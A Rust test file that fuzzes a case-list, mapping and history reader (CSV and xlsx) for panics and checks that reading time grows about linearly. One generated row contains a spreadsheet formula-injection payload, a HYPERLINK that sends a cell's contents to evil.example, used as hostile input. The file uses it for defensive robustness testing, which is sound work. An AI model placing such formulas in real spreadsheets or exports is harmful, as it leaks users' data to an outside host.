//! Any bytes as a case list (CSV, or a file named `.xlsx`), a setting map or a history are read
//! or refused with an error, never a panic (issue 30); and reading grows about linearly with the
//! size of hostile-but-plausible input.
//!
//! Timing (`reading_time_grows_about_linearly`): each shape is generated at 1, 4 and 16 MB and
//! read three times (the fastest kept); the 16 MB read must take less than [`MAX_GROWTH`] x 16
//! times as long as the 1 MB one (16 for linear, 256 for quadratic; times under 2 ms count as
//! 2 ms). `DSG_TIMING_MB=1,10,100` runs other sizes (by hand; the times go to stderr with
//! `--nocapture`). Measured in profile `ci` on two cores shared with another build, in
//! milliseconds:
//!
//! | shape | 1 MB | 4 MB | 16 MB | 10 MB | 100 MB |
//! |---|---|---|---|---|---|
//! | case list, many rows (valid, bad dates, long text, formulas, `-inf` and 1e308 costs) | 7.0 | 28.7 | 132 | 145 | 1,132 |
//! | case list, one huge cell | 0.8 | 3.7 | 15.0 | 10.1 | 170 |
//! | case list, one row of many columns | 3.2 | 12.4 | 123 | 69.6 | 605 |
//! | history, many rows with long sources (valid) | 3.6 | 16.0 | 82.3 | 82.0 | refused: over 64 MiB |
//! | history, one huge cell | 1.2 | 5.9 | 56.6 | 24.6 | refused: over 64 MiB |
//!
//! From 10 to 100 MB the times grow 8 to 17 times (memory, not the algorithm: the same shapes
//! grow 2 to 4 times from 16 to 32 MB and 2 times from 32 to 64 MB). Building and reading the
//! 100 MB inputs takes about 9 s in all: too slow for every CI run, so the test stops at 16 MB.

use std::time::Instant;

use dsg_data::cases::{CaseList, Mapping};
use dsg_data::history::{History, fit};
use proptest::prelude::*;

/// The largest read may take at most this many times as long, per times the size, as the
/// smallest (1 for linear; 16 for quadratic from 1 to 16 MB).
const MAX_GROWTH: f64 = 5.0;

/// A fresh path in the temporary folder.
fn temp_path(name: &str) -> std::path::PathBuf {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    let n = N.fetch_add(1, Ordering::Relaxed);
    std::env::temp_dir().join(format!("dsg-bytes-{}-{n}-{name}", std::process::id()))
}

/// A small valid workbook holding a case list.
fn workbook() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let rows = [
        [
            "plan_id",
            "child_id",
            "date_of_birth",
            "setting",
            "primary_need",
            "start_date",
            "status",
            "annual_cost",
        ],
        [
            "P1",
            "C1",
            "2015-05-01",
            "SP",
            "ASD",
            "2022-09-01",
            "active",
            "25000",
        ],
    ];
    for (r, row) in rows.iter().enumerate() {
        for (c, cell) in row.iter().enumerate() {
            sheet
                .write_string(r as u32, c as u16, *cell)
                .unwrap_or_else(|e| panic!("{e}"));
        }
    }
    book.save_to_buffer().unwrap_or_else(|e| panic!("{e}"))
}

/// Reads `bytes` as a case list from a file named `name` (so an `.xlsx` goes to the workbook
/// reader), then removes it.
fn read_file(name: &str, bytes: &[u8]) {
    let path = temp_path(name);
    std::fs::write(&path, bytes).unwrap_or_else(|e| panic!("{e}"));
    let _ = CaseList::read(&path);
    if name.ends_with(".csv") {
        let _ = History::load(&path);
        let _ = Mapping::read(&path);
    }
    let _ = std::fs::remove_file(&path);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_bytes_are_read_or_refused(bytes in proptest::collection::vec(any::<u8>(), 0..2_000)) {
        let _ = CaseList::from_csv(&bytes[..], "x.csv");
        let _ = Mapping::from_csv(&bytes[..], "m.csv");
        let _ = History::from_csv_str(&String::from_utf8_lossy(&bytes), "h.csv");
        read_file("x.csv", &bytes);
        read_file("x.xlsx", &bytes);
    }

    #[test]
    fn a_damaged_workbook_is_read_or_refused(
        damage in proptest::collection::vec((any::<proptest::sample::Index>(), any::<u8>()), 1..30)
    ) {
        let mut bytes = workbook();
        for (at, byte) in damage {
            let i = at.index(bytes.len());
            bytes[i] = byte;
        }
        read_file("damaged.xlsx", &bytes);
    }

    #[test]
    fn plausible_histories_are_read_and_fitted_or_refused(
        rows in proptest::collection::vec(
            (
                prop_oneof!["caseload", "funding", "other.x", "[a-z.]{0,8}"],
                prop_oneof!["20[0-2][0-9]", "20[0-2][0-9]-[0-9]{2}", ".{0,6}"],
                prop_oneof![
                    "[0-9]{1,6}",
                    "[0-9.e+-]{1,8}",
                    Just("1e308".to_string()),
                    Just("1e-300".to_string()),
                    Just("nan".to_string()),
                ],
                prop_oneof!["", "break", ".{0,4}"],
            ),
            0..40,
        )
    ) {
        let mut text = String::from("series,year,value,break\n");
        for (s, y, v, b) in &rows {
            let clean = |t: &str| t.replace([',', '\n', '\r', '"'], "");
            text.push_str(&format!("{},{},{},{}\n", clean(s), clean(y), clean(v), clean(b)));
        }
        if let Ok(h) = History::from_csv_str(&text, "h.csv") {
            for s in &h.series {
                prop_assert!(s.points.iter().all(|p| p.value.is_finite() && p.value > 0.0));
                if let Ok(f) = fit(s, None) {
                    prop_assert!(f.mean.is_finite() && f.sd.is_finite() && f.mean_se.is_finite());
                    // Every growth used is within +-ln(1000).
                    prop_assert!(f.mean.abs() <= 1000f64.ln() + 1e-9);
                }
            }
        }
    }
}

/// The fastest of three runs of `f`, in milliseconds.
fn fastest(mut f: impl FnMut()) -> f64 {
    (0..3)
        .map(|_| {
            let start = Instant::now();
            f();
            start.elapsed().as_secs_f64() * 1e3
        })
        .fold(f64::INFINITY, f64::min)
}

/// Text of about `bytes` bytes: `head`, then `row(i)` for i = 0, 1, ... until long enough.
fn generate(bytes: usize, head: &str, row: impl Fn(usize) -> String) -> String {
    let mut text = String::with_capacity(bytes + 1_000);
    text.push_str(head);
    let mut i = 0;
    while text.len() < bytes {
        text.push_str(&row(i));
        i += 1;
    }
    text
}

const CASE_HEADER: &str = "plan_id,child_id,date_of_birth,setting,primary_need,start_date,end_date,ceased_date,status,annual_cost\n";

/// Each shape: a name, and its text at a given size.
type Shape = (&'static str, Box<dyn Fn(usize) -> String>);

fn shapes() -> Vec<Shape> {
    vec![
        (
            "case list, many rows",
            Box::new(|n| {
                generate(n, CASE_HEADER, |i| match i % 5 {
                    0 => format!(
                        "P{i},C{i},2012-06-16,MS-SEC,HI,2019-04-04,,,active,{}\n",
                        10_000 + i % 5_000
                    ),
                    1 => format!("P{i},C{i},2012-13-45,SP,ASD,2019-02-30,,,active,-inf\n"),
                    2 => format!(
                        "P{i},{},2012-06-16,SP,ASD,2019-04-04,,,active,1e308\n",
                        "x".repeat(300)
                    ),
                    3 => format!(
                        "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",C{i},2012-06-16,\"x\"\"\n[scenario]\",ASD,2019-04-04,,,active,5\n"
                    ),
                    _ => format!("P{i},C{i},nan,inf,1e308,-1,,,,\n"),
                })
            }),
        ),
        (
            "case list, one huge cell",
            Box::new(|n| {
                format!(
                    "{CASE_HEADER}P1,C1,2012-06-16,{},HI,2019-04-04,,,active,1\n",
                    "y".repeat(n)
                )
            }),
        ),
        (
            "case list, one row of many columns",
            Box::new(|n| {
                generate(
                    n,
                    &format!("{CASE_HEADER}P1,C1,2012-06-16,SP,HI,2019-04-04,,,active,1"),
                    |_| ",1".repeat(1_000),
                ) + "\n"
            }),
        ),
        (
            "history, many rows with long sources",
            Box::new(|n| {
                let source = "s".repeat(400);
                generate(n, "series,year,value,break,source\n", |i| {
                    // A thousand series over three centuries at most: the largest valid history.
                    let (series, year) = (i / 300, 1900 + i % 300);
                    format!("other.s{series},{year},{},,{source}{i}\n", 100 + i % 7)
                })
            }),
        ),
        (
            "history, one huge cell",
            Box::new(|n| format!("series,year,value\ncaseload,2020,{}\n", "9".repeat(n))),
        ),
    ]
}

/// Reads `text` as the shape it is (a case list or a history).
fn read_shape(name: &str, text: &str) {
    if name.starts_with("history") {
        let _ = History::from_csv_str(text, "h.csv");
    } else {
        let _ = CaseList::from_csv(text.as_bytes(), "c.csv");
    }
}

#[test]
fn reading_time_grows_about_linearly() {
    let sizes: Vec<usize> = std::env::var("DSG_TIMING_MB")
        .ok()
        .map(|s| s.split(',').filter_map(|x| x.trim().parse().ok()).collect())
        .filter(|v: &Vec<usize>| v.len() >= 2)
        .unwrap_or_else(|| vec![1, 4, 16]);
    let mut failures = Vec::new();
    for (name, make) in shapes() {
        let times: Vec<f64> = sizes
            .iter()
            .map(|mb| {
                let text = make(mb << 20);
                fastest(|| read_shape(name, &text))
            })
            .collect();
        let shown: Vec<String> = sizes
            .iter()
            .zip(&times)
            .map(|(mb, t)| format!("{mb} MB {t:.1} ms"))
            .collect();
        eprintln!("{name}: {}", shown.join(", "));
        let n = times.len();
        let growth = sizes[n - 1] as f64 / sizes[0] as f64;
        // Below 2 ms a time is mostly noise: compare from 2 ms.
        let ratio = times[n - 1] / times[0].max(2.0);
        if ratio > MAX_GROWTH * growth {
            failures.push(format!(
                "{name}: {ratio:.1} times as long for {growth} times the size"
            ));
        }
    }
    assert!(failures.is_empty(), "{failures:?}");
}
